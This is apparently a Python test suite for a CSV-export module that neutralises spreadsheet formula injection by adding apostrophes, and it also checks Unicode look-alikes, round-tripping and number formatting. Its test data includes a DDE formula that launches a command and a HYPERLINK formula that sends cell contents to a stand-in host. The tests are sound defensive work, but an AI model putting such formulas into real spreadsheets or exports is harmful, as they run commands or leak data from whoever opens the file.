# ruff: noqa: RUF001  (ambiguous letters are what this is about)
import csv
import io
import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from huntaze.money import MOST_CENTS
from huntaze.spreadsheets import Lines, decimal, neutralised, original

BEGINNINGS = "=+-@\t\r\n"
UNNOTICED = " \u00a0\u3000\u200b\ufeff\x00\x1f\"'`“”‘’«"
SEPARATORS = ",;\t\r\n"
# Mostly what matters, so that examples are made of it and not of the other hundred thousand characters.
HOSTILE = st.text(
    st.sampled_from(BEGINNINGS + UNNOTICED + SEPARATORS + "＝＋－＠﹦−|%a1é🎉") | st.characters(codec="utf-8")
)


def _cells(text: str) -> list[str]:
    """The places where some spreadsheet may believe that a cell begins, each with what follows."""
    starts = [0, *(place + 1 for place, letter in enumerate(text) if letter in SEPARATORS)]
    return [text[start:] for start in starts]


def _is_formula(cell: str) -> bool:
    """As a careless spreadsheet would see it: blanks and quotes do not count, an apostrophe makes it text."""
    seen = cell.lstrip(UNNOTICED.replace("'", ""))
    return bool(seen) and unicodedata.normalize("NFKC", seen[0]) in {*BEGINNINGS, "−"}


@pytest.mark.parametrize(
    ("text", "harmless"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555", "'+1 555"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ('"=1', "'\"=1"),
        ("'=1", "''=1"),
        ("\u200b=1", "'\u200b=1"),
        ("＝1", "'＝1"),
        ("＠x", "'＠x"),
        ("a;=1", "a;'=1"),
        ("a, -b", "a,' -b"),
        ("a\n=1", "a\n'=1"),
        ('=HYPERLINK("http://x.example?"&A1,"Prize")', '\'=HYPERLINK("http://x.example?"&A1,"Prize")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ],
)
def test_what_a_spreadsheet_could_run_gets_an_apostrophe(text: str, harmless: str) -> None:
    assert neutralised(text) == harmless
    assert original(harmless) == text


@pytest.mark.parametrize(
    "text", ["", "Robin", "O'Neil", "'quoted'", "a=b", "a-b", "robin@example.com", "1.50", "🎉", "a; b"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert neutralised(text) == text == original(text)


@given(HOSTILE)
def test_no_cell_is_a_formula(text: str) -> None:
    assert [cell for cell in _cells(neutralised(text)) if _is_formula(cell)] == []


@given(HOSTILE)
def test_the_text_comes_back_exactly(text: str) -> None:
    assert original(neutralised(text)) == text


@given(HOSTILE)
def test_only_apostrophes_are_added(text: str) -> None:
    assert neutralised(text).replace("'", "") == text.replace("'", "")


def test_every_character_that_stands_for_a_beginning_is_known() -> None:
    plain = {*"=+-@−"}
    letters = map(chr, range(sys.maxunicode + 1))
    stand_ins = {letter for letter in letters if unicodedata.normalize("NFKC", letter)[:1] in plain}
    assert {letter for letter in stand_ins if neutralised(letter) == letter} == set()


def test_every_blank_is_looked_through() -> None:
    blanks = {letter for letter in map(chr, range(sys.maxunicode + 1)) if letter.isspace()}
    assert {blank for blank in blanks if not neutralised(f"{blank}=").startswith("'")} == set()


def test_a_long_run_of_blanks_takes_no_longer_than_its_length() -> None:
    for run in ("\t", " ", "'", "\n ", "\"'", ",", ", "):
        assert original(neutralised(run * 200_000 + "=")) == run * 200_000 + "="


@given(st.lists(st.lists(HOSTILE.filter(lambda text: "\x00" not in text), min_size=2, max_size=4), max_size=4))
def test_rows_come_back_through_any_reader_of_csv(rows: list[list[str]]) -> None:
    read = csv.reader(io.StringIO(Lines().of(rows), newline=""))
    assert [[original(cell) for cell in row] for row in read] == rows


def test_lines_end_as_spreadsheets_expect_and_quotes_stand_where_they_must() -> None:
    assert Lines().of([["a", "b,c"], ['say "hi"', "x\ny"]]) == 'a,"b,c"\r\n"say ""hi""","x\ny"\r\n'


def test_numbers_stay_numbers_and_nothing_stays_nothing() -> None:
    assert Lines().of([[1, decimal(150), None, -3]]) == "1,1.50,,-3\r\n"


def test_lines_are_given_once() -> None:
    lines = Lines()
    assert (lines.of([["a"]]), lines.of([["b"]]), lines.of([])) == ("a\r\n", "b\r\n", "")


@pytest.mark.parametrize(
    ("cents", "text"), [(0, "0.00"), (5, "0.05"), (123_456, "1234.56"), (MOST_CENTS, "92233720368547758.07")]
)
def test_an_amount_has_a_point_and_two_digits(cents: int, text: str) -> None:
    assert decimal(cents) == text
